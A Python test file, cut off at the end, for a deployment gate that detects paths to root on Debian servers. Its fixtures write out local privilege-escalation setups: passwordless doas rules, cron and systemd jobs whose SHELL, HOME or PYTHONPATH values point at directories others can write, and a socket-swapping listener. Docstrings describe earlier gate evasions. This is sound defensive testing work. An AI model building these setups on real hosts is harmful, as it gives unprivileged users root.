"""Blind round 5's classes 2-5, as pure functions of each platform's recorded clean snapshot plus the fault:

2. every key by which root (or sshd for anyone) executes a program, resolved through root's wrapper scripts
   (sshd's AuthorizedKeysCommand, AuthorizedPrincipalsCommand, ForceCommand, Subsystem; root's own shell startup
   files when the snapshot holds them; ``export PATH=`` read as the assignment it is);
3. a root service any local user can reach: a loopback listener is the distribution's only when the program it
   runs is a package's file (the script an interpreter is given, not the interpreter);
4. who becomes root outside sudoers, PAM and sshd (doas, pam_cap's capability.conf, polkit's rules);
5. libraries loaded by a library's configuration (OpenSSL's openssl.cnf, sudo.conf, gconv-modules.d).

Each fault is written under another name than blind5's own (no check keys on a name, a port or a path)."""

from __future__ import annotations

import copy
import dataclasses
import json
import shlex
import stat
from pathlib import Path

import pytest
from stock import outcome, with_stock_logins

from deploytests.allowances import Allowances
from deploytests.config import load_config
from deploytests.examples import APPS
from deploytests.verify import collect_login, grants, parse, promises, rootacts
from deploytests.verify.facts import Facts
from deploytests.verify.promises import Expected

DATA = Path(__file__).parent / "data"
STOCK = json.loads((DATA / "rootacts-stock.json").read_text())
RECORDED = json.loads((DATA / "facts-clean.json").read_text())
ROOT = "/var/www/yourapplication"
F, D = stat.S_IFREG, stat.S_IFDIR
PLATFORMS = ["debian12", "debian13"]


@pytest.fixture
def exp():
    return Expected.from_config(load_config(APPS / "yourapplication"), "appuser")


def host(platform: str, files=None, dirs=None) -> Facts:
    """The platform's clean facts (its login files, sshd_config, shadow, dpkg) plus ``files`` ({path: (mode, uid,
    text, or None: not read)}) and ``dirs`` ({dir: names})."""
    facts = with_stock_logins(Facts("docker://web-1", remote=copy.deepcopy(RECORDED)), platform)
    for path, (mode, uid, text) in (files or {}).items():
        entry = {"st": [mode, uid, uid, len(text or ""), 0, 9]}
        entry.update({"data": text} if text is not None else {"why": "Permission denied"})
        facts.raw.files[path] = entry
        up = path.rsplit("/", 1)[0]
        while up and up not in facts.raw.files:
            facts.raw.files[up] = {"st": [D | 0o755, 0, 0, 0, 0, 8]}
            up = up.rsplit("/", 1)[0]
    for d, names in (dirs or {}).items():
        facts.raw.dirs[d] = sorted(set(facts.raw.dirs.get(d, [])) | set(names))
        facts.raw.files.setdefault(d, {"st": [D | 0o755, 0, 0, 0, 0, 8]})
    return facts


def fails(pid, facts, exp) -> str:
    found = outcome(pid, facts, exp)
    assert found.startswith("fail: "), found
    return found


def sshd_plus(facts, text: str):
    facts.raw.files["/etc/ssh/sshd_config"]["data"] += text
    return facts


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_stock_server_passes_the_rules_these_classes_extend(exp, platform):
    facts = host(platform)
    for pid in ("cw_sshd", "cw_become", "cw_schedules"):
        assert outcome(pid, facts, exp) == "pass", pid
    assert grants.broker_grants(facts.raw, parse.conffiles(facts.raw.data("/var/lib/dpkg/status"))) == []
    assert grants.library_loads(facts.raw) == []
    plain = json.loads((DATA / "logins-stock.json").read_text())[f"{platform}-plain"]["files"]
    facts.raw.files["/etc/ssh/sshd_config"] = plain["/etc/ssh/sshd_config"]  # Debian's own: Subsystem sftp ...
    assert "Subsystem" in facts.raw.text("/etc/ssh/sshd_config")
    assert outcome("cw_sshd", facts, exp) == "pass"


# ---------------------------------------------------------------- class 2: what sshd runs, resolved

WRAPPER = "#!/bin/sh\n# staff keys from the app\nexec " + ROOT + "/current/venv/bin/python -m app.keys \"$1\"\n"


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("key, user", [("AuthorizedKeysCommand", "root"), ("AuthorizedPrincipalsCommand", "nobody")])
def test_an_sshd_command_whose_root_script_runs_the_apps_tree_fails(exp, platform, key, user):
    script = "/opt/ssh-tools/principals"  # (blind5's: /usr/local/sbin/app-ssh-keys, AuthorizedKeysCommand)
    facts = sshd_plus(host(platform, {script: (F | 0o755, 0, WRAPPER)}),
                      f"\n{key} {script} %u\n{key}User {user}\n")
    msg = fails("cw_sshd", facts, exp)
    assert f"{key} {script} %u: sshd runs it as {user} before authentication" in msg, msg
    assert f"it runs {script}, which runs {ROOT}/current/venv/bin/python (the app's tree) ({script}:3)" in msg, msg


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_forced_command_in_a_match_block_and_a_subsystem_are_judged_the_same_way(exp, platform):
    facts = sshd_plus(host(platform, {"/usr/local/lib/sftp-audit": (F | 0o755, 0, "#!/bin/sh\n. " + ROOT +
                                                                    "/shared/data/audit.env\nexec \"$@\"\n")}),
                      "\nMatch Group adm\n    ForceCommand /usr/local/lib/sftp-audit\n")
    msg = fails("cw_sshd", facts, exp)
    assert "ForceCommand /usr/local/lib/sftp-audit (Match Group adm at /etc/ssh/sshd_config:" in msg, msg
    assert f"sources {ROOT}/shared/data/audit.env (the app's tree)" in msg, msg
    loose = host(platform, {"/srv/tools/sftp": (F | 0o755, 1000, "x")})
    loose.raw.files["/etc/ssh/sshd_config"]["data"] = loose.raw.files["/etc/ssh/sshd_config"]["data"].replace(
        "Subsystem", "#Subsystem") + "\nSubsystem sftp /srv/tools/sftp\n"
    assert "Subsystem sftp /srv/tools/sftp: sshd runs it for every login" in fails("cw_sshd", loose, exp)


@pytest.mark.parametrize("platform", PLATFORMS)
def test_roots_shell_startup_files_are_judged_when_the_snapshot_holds_them(exp, platform):
    for path, line in (("/root/.bashrc", f"export PATH={ROOT}/current/venv/bin:$PATH"),  # blind5's d10
                       ("/root/.profile", f'PATH="/usr/local/bin:{ROOT}/current/venv/bin:$PATH"'),
                       ("/root/.ssh/rc", f". {ROOT}/shared/data/env")):
        facts = host(platform, {path: (F | 0o644, 0, f"# ~/.x\numask 022\n{line}\n")})
        facts.remote["inventory"]["root_hooks"] = parse.root_hooks(facts.raw)  # (the probe's parse of it)
        msg = fails("cw_schedules", facts, exp)
        assert f"{path}:3: runs" in msg and f"from the app's tree ({ROOT})" in msg, msg
    unread = host(platform, {"/root/.bashrc": (F | 0o644, 0, None)})  # /root 0700: not read, no finding
    unread.remote["inventory"]["root_hooks"] = parse.root_hooks(unread.raw)
    assert outcome("cw_schedules", unread, exp) == "pass"


def test_export_is_an_assignment_and_path_entries_are_each_a_place_commands_run_from():
    assert rootacts._words("export PATH=/opt/a/bin:/srv/b/bin:$PATH") == [("finds commands in", "/opt/a/bin"),
                                                                          ("finds commands in", "/srv/b/bin")]
    # any variable's value is judged as what runs (cron runs jobs with $SHELL, Python adds $HOME's and
    # $PYTHONUSERBASE's user site: which variable a program takes code by is not for a list to know)
    assert rootacts._words("export LOGDIR=/srv/log") == [("sets LOGDIR to", "/srv/log")]
    assert rootacts._words("HOME=/srv/t /usr/bin/python3 -c 1") == [("sets HOME to", "/srv/t"),
                                                                   ("runs", "/usr/bin/python3")]


# ---------------------------------------------------------------- class 3: a loopback service's program

def listening(platform: str, argv: list[str], exe: str, cwd: str = "/", uid: int = 0) -> list[dict]:
    raw = copy.deepcopy(STOCK[platform])
    raw["files"]["/proc/net/tcp"] = {"data": "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when "
                                              "retrnsmt   uid  timeout inode\n   0: 0100007F:2382 00000000:0000 0A "
                                              "00000000:00000000 00:00000000 00000000     0        0 77001 1\n"}
    python = f"/usr/bin/python3.{11 if platform == 'debian12' else 13}"
    raw["files"]["/var/lib/dpkg/info/python3-minimal.list"] = {"data": f"/usr/bin/python3\n{python}\n/bin/sh\n"
                                                                       "/usr/bin/perl\n/usr/sbin/chronyd\n/usr/bin/dash\n"}
    raw["dirs"]["/var/lib/dpkg/info"] = raw["dirs"]["/var/lib/dpkg/info"] + ["python3-minimal.list"]
    raw["proc"]["4242"] = {"uid": uid, "stat": "4242 (x) S 1 4242 4242 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 900 "
                                               "0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0",
                           "cmdline": "\0".join(argv) + "\0", "exe": exe, "cwd": cwd, "sockets": ["socket:[77001]"],
                           "status": ""}
    return parse.Procs(parse.Snapshot(raw)).listeners()


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("argv, cwd, script", [
    (["/usr/bin/python3", "/usr/local/sbin/ops-agent"], "/", "/usr/local/sbin/ops-agent"),  # blind5's d01
    (["python3", "helpdesk.py", "--port", "9090"], "/srv/helpdesk", "/srv/helpdesk/helpdesk.py"),  # relative
    (["/bin/sh", "-c", "exec /opt/relay/relay.pl"], "/", "/opt/relay/relay.pl"),  # through sh -c
    (["/usr/bin/perl", "-w", "/etc/local/tunnel"], "/", "/etc/local/tunnel")])
def test_a_loopback_service_whose_program_is_a_script_no_package_ships_is_not_the_distributions(platform, argv,
                                                                                                cwd, script):
    python = f"/usr/bin/python3.{11 if platform == 'debian12' else 13}"
    exe = {"/bin/sh": "/usr/bin/dash", "/usr/bin/perl": "/usr/bin/perl"}.get(argv[0], python)
    (sock,) = [s for s in listening(platform, argv, exe, cwd) if s["port"] == 0x2382]
    assert sock["procs"][0]["package"] is None and sock["procs"][0]["script"] == script
    assert sock["procs"][0]["bare"] == f"{exe} {script}"  # last round's entry: the script too
    assert sock["procs"][0]["program"] == shlex.join([exe] + [script if a in script and not a.startswith("/") else
                                                              a for a in argv[1:]])  # an entry's: every word


def test_an_allowance_for_a_loopback_script_binds_the_script_not_its_interpreter(exp):
    from test_closed_world import clean_facts, failing, inv

    holder = {"pid": 4242, "user": "root", "uid": 0, "ppid": 1, "comm": "python3", "cmdline": "/usr/bin/python3 "
              "/usr/local/sbin/agent", "exe": "/usr/bin/python3.11", "started": 0, "package": None,
              "script": "/usr/local/sbin/agent", "program": "/usr/bin/python3.11 /usr/local/sbin/agent"}
    facts = clean_facts()
    inv(facts)["listeners"].append({"proto": "tcp", "host": "127.0.0.1", "port": 7071, "procs": [holder], "uid": 0,
                                    "owner": "root", "hidden": []})
    msg = failing(facts, exp)["cw_listen"]
    assert "(its program is /usr/local/sbin/agent, a file no package ships)" in msg, msg
    assert 'allow_listen = ["localhost:7071 root /usr/bin/python3.11 /usr/local/sbin/agent sha256:' in msg, msg
    allowed = dataclasses.replace(exp, allow=Allowances(listen=(
        "localhost:7071 root /usr/bin/python3.11 /usr/local/sbin/agent",)))
    assert "cw_listen" not in failing(facts, allowed)
    python = dataclasses.replace(exp, allow=Allowances(listen=("localhost:7071 root /usr/bin/python3.11",)))
    assert "cw_listen" in failing(facts, python)  # the interpreter alone would allow any script
    script = dataclasses.replace(exp, allow=Allowances(listen=("localhost:7071 root /usr/local/sbin/agent",)))
    assert "cw_listen" in failing(facts, script)  # the script alone: whatever interpreter runs it


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_loopback_service_whose_program_is_packaged_stays_the_distributions(platform):
    python = f"/usr/bin/python3.{11 if platform == 'debian12' else 13}"
    for argv, exe in ((["/usr/sbin/chronyd", "-F", "1"], "/usr/sbin/chronyd"),
                      (["/usr/bin/python3", "-m", "http.server", "9090"], python),  # -m: a module, not a file
                      (["/usr/bin/perl", "-T", "/usr/bin/perl"], "/usr/bin/perl")):
        (sock,) = [s for s in listening(platform, argv, exe) if s["port"] == 0x2382]
        assert sock["procs"][0]["package"] == "python3-minimal" and sock["procs"][0]["script"] is None, argv


TCP_HEAD = ("  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n")


def tcp_row(port: int, inode: int) -> str:
    return (f"   0: 0100007F:{port:04X} 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 "
            f"{inode} 1\n")


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_socket_that_came_or_went_during_roots_walk_is_not_held_by_no_one_one_there_throughout_is(platform):
    """Class: facts of one moment joined with facts of another. The login collector read the sockets
    (/proc/net/tcp, udp, unix) seconds before root walked /proc for their holders: a daemon restarting in between
    (an MTA's loopback port, twice on Debian 13 in the admin-tooling run) left its old socket "held by no process
    of this server" and its new one unlisted. Root now reads the sockets again right after its walk
    (collect_root.NET, in its first steps); a socket in one read only came or went during the walk and is not
    said to be held by no one; one in both reads with no holder seen still is. Other member: a UNIX socket."""
    from deploytests.verify import sockets
    from deploytests.verify.collect_root import NET, collect

    assert "/proc/net/tcp" in NET and "/proc/net/unix" in NET  # (what root reads again, after "processes")
    assert collect.__code__.co_names.index("NET") > collect.__code__.co_names.index("processes")
    raw = copy.deepcopy(STOCK[platform])
    old, new, stuck = tcp_row(25, 77000), tcp_row(25, 77001), tcp_row(0x2382, 77002)
    raw["earlier"] = {"/proc/net/tcp": TCP_HEAD + old + stuck}  # the login's read, before the walk
    raw["files"]["/proc/net/tcp"] = {"data": TCP_HEAD + new + stuck}  # root's, after it (it wins the merge)
    raw["proc"]["4242"] = {"uid": 0, "stat": "4242 (exim4) S 1 4242 4242 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 900 "
                                             + "0 " * 30, "cmdline": "/usr/sbin/exim4\0-bd\0",
                           "exe": "/usr/sbin/exim4", "cwd": "/", "sockets": ["socket:[77001]"], "status": ""}
    found = {(s["port"], tuple(p["pid"] for p in s["procs"])) for s in parse.Procs(parse.Snapshot(raw)).listeners()}
    assert (25, (4242,)) in found and (0x2382, ()) in found and len([f for f in found if f[0] == 25]) == 1, found
    del raw["earlier"]  # (no read by root: the login's list alone, as without sudo)
    raw["files"]["/proc/net/tcp"] = {"data": TCP_HEAD + old + stuck}
    found = {(s["port"], tuple(p["pid"] for p in s["procs"])) for s in parse.Procs(parse.Snapshot(raw)).listeners()}
    assert (25, ()) in found and (0x2382, ()) in found, found
    head = "Num       RefCount Protocol Flags    Type St Inode Path\n"
    row = "0000000000000000: 00000002 00000000 00010000 0001 01 {} @{}\n"
    raw["earlier"] = {"/proc/net/unix": head + row.format(88000, "gone") + row.format(88002, "stuck")}
    raw["files"]["/proc/net/unix"] = {"data": head + row.format(88002, "stuck")}
    snap = parse.Snapshot(raw)
    names = {s["name"] for s in sockets.unix_listeners(snap, parse.Procs(snap))}
    assert "@stuck" in names and "@gone" not in names, names


def net_row(port: int, inode: int, uid: int, state: str = "0A") -> str:
    return (f"   0: 00000000:{port:04X} 00000000:0000 {state} 00000000:00000000 00:00000000 00000000  {uid:5d}"
            f"        0 {inode} 1\n")


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("proto, state", [("tcp", "0A"), ("udp", "07")])
def test_a_listener_replacing_its_socket_faster_than_roots_walk_is_the_deploy_logins_all_the_same(
        exp, platform, proto, state):
    """Class: a listener of a less trusted party that escapes by never being in both reads of the sockets. The
    deploy login's listener on 0.0.0.0:9999 closed and made its socket again faster than root's walk of /proc: the
    login collector's read listed one socket, root saw the process hold a second, root's read after the walk
    listed a third; each "came or went during the walk", so it was never said to be held by no one and never
    judged, and the gate passed with the port open. A socket in one read only is still skipped when a daemon's
    (a restart: root's MTA on port 25 here); one the deploy login or the app user owns (the kernel's uid of the
    socket: no one else's process can make it) is judged whoever holds it. Other member: a bound UDP socket."""
    from test_closed_world import clean_facts, failing, inv

    raw, path = copy.deepcopy(STOCK[platform]), f"/proc/net/{proto}"
    head = TCP_HEAD
    raw["earlier"] = {path: head + net_row(9999, 78000, 1000, state) + net_row(25, 78010, 0, state)}
    raw["files"][path] = {"data": head + net_row(9999, 78002, 1000, state) + net_row(25, 78011, 0, state)}
    raw["proc"]["4343"] = {"uid": 1000, "stat": "4343 (python3) S 1 4343 4343 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 "
                                                "900 " + "0 " * 30, "cmdline": "/usr/bin/python3\0/tmp/l.py\0",
                           "exe": "/usr/bin/python3.11", "cwd": "/tmp", "sockets": ["socket:[78001]"], "status": ""}
    found = [s for s in parse.Procs(parse.Snapshot(raw)).listeners() if s["port"] in (9999, 25)]
    assert sorted((s["port"], s["procs"], s["lasted"], s["owner"]) for s in found) == [
        (25, [], False, "root"), (9999, [], False, "appuser")], found
    facts = clean_facts(platform)
    inv(facts)["listeners"] += found
    msg = failing(facts, exp)["cw_listen"]
    shown = ("UDP" if proto == "udp" else "TCP") + " *:9999 listens: owner uid 1000 (appuser), a socket made while " \
        "root walked /proc for its holder"
    assert shown in msg and ":25 " not in msg, msg


# ---------------------------------------------------------------- class 4: other privilege brokers

@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_doas_rule_or_an_unreadable_doas_conf_is_a_way_to_root(exp, platform):
    rule = "permit nopass keepenv :backup as root cmd /usr/bin/rsync"  # (blind5's: the app user, find)
    facts = host(platform, {"/etc/doas.conf": (F | 0o644, 0, f"# local\ndeny nobody\n{rule}\n")})
    msg = fails("cw_become", facts, exp)
    assert f"/etc/doas.conf:3: {rule!r}: :backup becomes root through doas (setuid root) without a password, " \
           f"running /usr/bin/rsync" in msg and f'allow_sudo = ["{rule}"]' in msg, msg
    assert outcome("cw_become", facts, dataclasses.replace(exp, allow=Allowances(sudo=(rule,)))) == "pass"
    hidden = host(platform, {"/etc/doas.conf": (F | 0o400, 0, None)})
    assert "/etc/doas.conf: doas (setuid root) grants by it, and the gate could not read it (Permission " \
           "denied)" in fails("cw_become", hidden, exp)


@pytest.mark.parametrize("platform", PLATFORMS)
def test_polkit_rules_and_capabilities_at_login_are_ways_to_root(exp, platform):
    facts = host(platform, {"/etc/polkit-1/rules.d/49-ops.rules": (F | 0o644, 0, "polkit.addRule(...)"),
                            "/etc/security/capability.conf": (F | 0o644, 0, "cap_dac_override  appuser\nnone *\n")},
                 {"/etc/polkit-1/rules.d": ["49-ops.rules"]})
    msg = fails("cw_become", facts, exp)
    assert "/etc/polkit-1/rules.d/49-ops.rules: a polkit rule no package ships unchanged" in msg, msg
    assert "/etc/security/capability.conf:1: 'cap_dac_override  appuser': appuser gets cap_dac_override" in msg
    shut = host(platform)
    shut.raw.files["/etc/polkit-1/localauthority"] = {"st": [D | 0o700, 997, 0, 0, 0, 8],
                                                      "why": "not listed (Permission denied)"}
    assert "/etc/polkit-1/localauthority: polkit's rules, and the gate's login could not list it" in \
        fails("cw_become", shut, exp)


# ---------------------------------------------------------------- class 5: what a library's configuration loads

@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("conf, text, lib", [
    ("/etc/ssl/openssl.cnf", "[prov]\nmodule = /opt/tpm/ossl/tpm2.so\n", "/opt/tpm/ossl/tpm2.so"),  # a provider
    ("/etc/ssl/openssl.cnf", "[e]\ndynamic_path=/opt/hsm/engine.so\n", "/opt/hsm/engine.so"),  # blind5's kind
    ("/etc/sudo.conf", "Plugin audit_log /opt/audit/sudo_audit.so\n", "/opt/audit/sudo_audit.so"),
    ("/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/zz-vendor.conf", "module EBCDIC-X// INTERNAL "
     "/opt/ebcdic/EBCDIC-X 1\n", "/opt/ebcdic/EBCDIC-X")])
def test_a_library_loaded_by_a_librarys_configuration_that_someone_else_owns_fails(exp, platform, conf, text, lib):
    d = conf.rsplit("/", 1)[0]
    facts = host(platform, {conf: (F | 0o644, 0, "# conf\n" + text), lib: (F | 0o755, 0, "\x7fELF")},
                 {d: [conf.rsplit("/", 1)[1]]} if "gconv" in conf else {})
    facts.raw.files[lib.rsplit("/", 1)[0]] = {"st": [D | 0o755, 998, 998, 0, 0, 8]}  # the vendor's account
    msg = fails("cw_load_path", facts, exp)
    n = text.count("\n") + 1
    assert f"{conf}:{n}: it loads {lib}, which someone but root may change" in msg and "make it root's" in msg, msg
    facts.raw.files[lib.rsplit("/", 1)[0]]["st"][1:3] = [0, 0]
    assert outcome("cw_load_path", facts, exp) == "pass"


def test_an_openssl_include_is_read_in_turn(exp):
    facts = host("debian12", {"/etc/ssl/openssl.cnf": (F | 0o644, 0, ".include /etc/ssl/vendor.cnf\n"),
                              "/etc/ssl/vendor.cnf": (F | 0o644, 0, "[e]\nso_path = " + ROOT + "/shared/e.so\n")})
    assert f"/etc/ssl/vendor.cnf:2: it loads {ROOT}/shared/e.so (the app's tree)" in fails("cw_load_path", facts, exp)


def test_the_collector_reads_what_these_rules_parse():
    for path in collect_login.GRANTS + collect_login.LIBCONF + collect_login.ROOT_SHELL:
        assert path in collect_login.FILES
    assert "/etc/ssh/sshd_config" in collect_login.ROOT_RUNS and set(collect_login.LIBCONF) <= set(
        collect_login.ROOT_RUNS)


TOOLS = {"/srv/tools": (D | 0o2775, 0, None), "/srv/tools/jobsh": (F | 0o775, 1001, None)}  # the deploy login's


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("path, text", [
    ("/etc/cron.d/report", "SHELL=/srv/tools/jobsh\n0 3 * * * root /usr/bin/test -d /var/backups\n"),  # cron's shell
    ("/etc/cron.d/report", "HOME=/srv/tools\n0 3 * * * root /usr/bin/python3 -c 1\n"),  # ~/.local's .pth files
    ("/etc/crontab", "MAILTO=\"\"\n0 3 * * * root PYTHONUSERBASE=/srv/tools /usr/bin/python3 -c 1\n"),  # inline
    ("/var/spool/cron/crontabs/root", "SHELL=/srv/tools/jobsh\n0 3 * * * /usr/bin/true\n"),  # root's own crontab
    # attack10: the variable set through a wrapper (env(1), sudo), not the shell's prefix: shown on a container
    ("/etc/cron.d/report", "0 3 * * * root env PYTHONPATH=/srv/tools /usr/bin/python3 -c 1\n"),
    ("/etc/cron.d/report", "0 3 * * * root /usr/bin/env -i HOME=/srv/tools /usr/bin/python3 -c 1\n"),
    ("/etc/crontab", "0 3 * * * root nice -n 10 sudo PYTHONUSERBASE=/srv/tools /usr/bin/python3 -c 1\n"),
    ("/etc/cron.d/report", "0 3 * * * root /usr/bin/env PATH=/srv/tools:/usr/bin backup-run\n"),
])
def test_a_root_jobs_variable_naming_what_others_may_change_is_a_finding_whatever_its_name(exp, platform, path, text):
    """attack8: the gate judged a cron file's environment line, and a variable before a job's command, only for a
    list of loader variables (PATH, PYTHONPATH, BASH_ENV ...; a crontab's own lines not at all): cron ran every
    job of an admin's file with SHELL=/srv/tools/jobsh (the deploy team's directory) as root, and root's python3
    ran the .pth of HOME=/srv/tools's user site, while the gate passed. Every variable's paths are now judged as
    what the job runs."""
    facts = host(platform, {path: (F | 0o644, 0, text), **TOOLS})
    msg = fails("cw_schedules", facts, exp)
    assert "/srv/tools" in msg and "which someone but root may change" in msg and " as root" in msg, msg
    tools_root = host(platform, {path: (F | 0o644, 0, text), "/srv/tools": (D | 0o755, 0, None),
                                 "/srv/tools/jobsh": (F | 0o755, 0, None)})
    assert outcome("cw_schedules", tools_root, exp) == "pass"  # root's own directory: root's code


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("path, text, allowed", [
    ("/etc/systemd/system/report.service", "[Service]\nExecStart=/srv/tools/jobsh\n", False),  # a timer's service
    ("/etc/systemd/system/report.service", "[Service]\nEnvironment=HOME=/srv/tools\nExecStart=/usr/bin/python3 -c 1\n",
     False),
    ("/etc/systemd/system/report.service", "[Service]\nWorkingDirectory=/srv/tools\nExecStart=/usr/bin/python3 -m r\n",
     False),
    ("/etc/systemd/system/apache2.service.d/reload.conf", "[Service]\nExecReload=\nExecReload=-/srv/tools/jobsh\n",
     True),  # an allowed override of Apache's unit: allow_units accounts for the unit, not for what root runs
    # attack9: the rest of systemd's unit search path (systemd.unit(5)): systemctl set-property's system.control
    # dirs (searched first), portablectl's system.attached; a package unit's drop-in there, or a unit of its own
    ("/etc/systemd/system.control/cron.service.d/ops.conf", "[Service]\nCPUQuota=50%\nExecStartPost=/srv/tools/jobsh\n",
     False),
    ("/run/systemd/system.control/report.service", "[Service]\nExecStart=/srv/tools/jobsh\n", False),
    ("/etc/systemd/system.attached/report.service", "[Service]\nExecStart=/srv/tools/jobsh\n", False),
    ("/run/systemd/system.attached/cron.service.d/x.conf", "[Service]\nEnvironment=PYTHONPATH=/srv/tools\n", False),
])
def test_what_a_root_unit_runs_is_judged_as_a_cron_jobs_is(exp, platform, path, text, allowed):
    """attack8: a root unit's commands were judged only for the app's tree: a timer's service running
    /srv/tools/jobsh (the deploy login's file in the deploy team's directory) passed the gate, while the same
    command in /etc/cron.d failed it. Each Exec*, WorkingDirectory, EnvironmentFile and Environment value is now
    judged as a cron job's command line (rootacts.command_problem: someone but root may change it, root's scripts
    one level further)."""
    unit = path.split("/")[4].removesuffix(".d")
    mine = dataclasses.replace(exp, allow=dataclasses.replace(exp.allow, units=(unit,))) if allowed else exp
    msg = fails("cw_units", host(platform, {path: (F | 0o644, 0, text), **TOOLS}), mine)
    assert f"{path}:" in msg and "/srv/tools" in msg and "someone but root may change" in msg, msg
    rooted = host(platform, {path: (F | 0o644, 0, text), "/srv/tools": (D | 0o755, 0, None),
                             "/srv/tools/jobsh": (F | 0o755, 0, None)})
    assert "someone but root may change" not in str(outcome("cw_units", rooted, mine))  # root's alone: root's
    # code (the helper's snapshot holds no dpkg lists for the stock units' links, and a unit by hand is a start
    # entry to allow: those lines are the helper's and test_later_starts', not this test's)


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("pid, path, text", [
    ("cw_units", "/etc/systemd/system/cron.service.d/ops.conf", "[Service]\nExecStartPost=/srv/tools/notify\n"),
    ("cw_schedules", "/etc/cron.d/report", "0 3 * * * root /srv/tools/notify --daily\n"),
    ("cw_schedules", "/etc/cron.d/report", "PYTHONPATH=/srv/tools/lib\n0 3 * * * root /usr/bin/python3 -m report\n"),
])
def test_what_root_runs_that_is_not_there_yet_is_judged_by_who_may_make_it_be_there(exp, platform, pid, path, text):
    """attack9: a program (or a variable's directory) a root job names that did not exist when the collector
    looked was judged as "not looked at" and passed; the deploy login made /srv/tools/notify in the deploy team's
    directory (2775 root:deployer) after the gate, and root ran it. An absent path is its directory's: whoever
    may write there may make it be there."""
    facts = host(platform, {path: (F | 0o644, 0, text), "/srv/tools": (D | 0o2775, 0, None)})
    for absent in ("/srv/tools/notify", "/srv/tools/lib"):
        facts.raw.files[absent] = {"why": "No such file or directory"}
    msg = fails(pid, facts, exp)
    assert "/srv/tools" in msg and "someone but root may change (/srv/tools 2775 " in msg, msg
    rooted = host(platform, {path: (F | 0o644, 0, text), "/srv/tools": (D | 0o755, 0, None)})
    for absent in ("/srv/tools/notify", "/srv/tools/lib"):
        rooted.raw.files[absent] = {"why": "No such file or directory"}
    assert "/srv/tools" not in str(outcome(pid, rooted, exp))  # root's own directory: only root makes it be there


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("path, text", [
    ("/var/spool/cron/crontabs/root", "0 3 * * * /srv/tools/jobsh --daily\n"),
    ("/var/spool/cron/crontabs/root", "PYTHONPATH=/srv/tools\n0 3 * * * /usr/bin/python3 -m report\n"),
    ("/var/spool/cron/atjobs/a0000101b2c3d4", "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPYTHONPATH="
                                              "/srv/tools; export PYTHONPATH\ncd /root || {\n\t echo 'Execution "
                                              "directory inaccessible' >&2\n\t exit 1\n}\n/usr/bin/python3 -m r\n"),
    # attack10: root's own login files (every `sudo -i`, every root shell): read by root alone too
    ("/root/.bashrc", ". /srv/tools/ops-env.sh\n"),
    ("/root/.profile", "export PATH=/srv/tools/jobsh:$PATH\n"),
])
def test_root_only_schedules_are_judged_by_roots_lstat_of_what_they_name(exp, platform, path, text):
    """attack8's open item: root's own crontab and root's at jobs are read by root alone, so the login collector
    (which lstats what the files it reads name) never looked at the paths they name, and "someone but root may
    change it" was judged there only for the app's tree: an admin's `sudo --preserve-env=PYTHONPATH at ...` job
    with the deploy team's directory passed. The root collector now lstats the absolute words of root's files in
    the spools (with the directories above, never past one someone else may change: `mapped`)."""
    at = {path.rsplit("/", 1)[0]: [path.rsplit("/", 1)[1]]}
    facts = host(platform, {path: (F | 0o600, 0, text)}, at)
    facts.raw.raw["mapped"] = {"/": [D | 0o755, 0, 0, 0, 0, 2], "/srv": [D | 0o755, 0, 0, 0, 0, 3],
                               "/srv/tools": [D | 0o2775, 0, 1001, 0, 0, 4]}
    facts.remote["inventory"]["at_jobs"] = parse.at_jobs(facts.raw)  # (as the probe parses it)
    facts.remote["inventory"]["root_hooks"] = parse.root_hooks(facts.raw)
    msg = fails("cw_schedules", facts, exp)
    assert f"{path}:" in msg and "/srv/tools 2775 " in msg and "someone but root may change" in msg, msg
    facts = host(platform, {path: (F | 0o600, 0, text)}, at)
    facts.raw.raw["mapped"] = {"/": [D | 0o755, 0, 0, 0, 0, 2], "/srv": [D | 0o755, 0, 0, 0, 0, 3],
                               "/srv/tools": [D | 0o755, 0, 0, 0, 0, 4], "/srv/tools/jobsh": [F | 0o755, 0, 0, 0, 0, 5]}
    facts.remote["inventory"]["at_jobs"] = parse.at_jobs(facts.raw)
    facts.remote["inventory"]["root_hooks"] = parse.root_hooks(facts.raw)
    assert "/srv/tools" not in str(outcome("cw_schedules", facts, exp))  # root's own: root's code


def test_the_root_collector_lstats_what_roots_own_schedules_name_and_nothing_others_wrote(tmp_path):
    """The root collector's side: the absolute words of root's crontab and root's at jobs are lstat'd (a word
    after '=' too: PYTHONPATH=...), an absent one recorded as None; an at job of another user (its file theirs)
    adds nothing (its words are not root's to resolve, nor a way to push the bounded list past Apache's maps)."""
    from deploytests.verify import collect_root

    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "jobsh").write_text("#!/bin/sh\n")
    out = {"proc": {}, "errors": {}, "mapped": {}, "size": 0, "files": {
        "/var/spool/cron/crontabs/root": {"st": [F | 0o600, 0, 0, 0, 0, 0],
                                          "data": f"PYTHONPATH={tmp_path}/lib\n0 3 * * * {tmp_path}/tools/jobsh -q\n"},
        "/var/spool/cron/atjobs/a0001": {"st": [F | 0o700, 1001, 1, 0, 0, 0], "data": f"{tmp_path}/theirs\n"},
        # root's user site: a .pth's directory line (every root python3 puts it on sys.path)
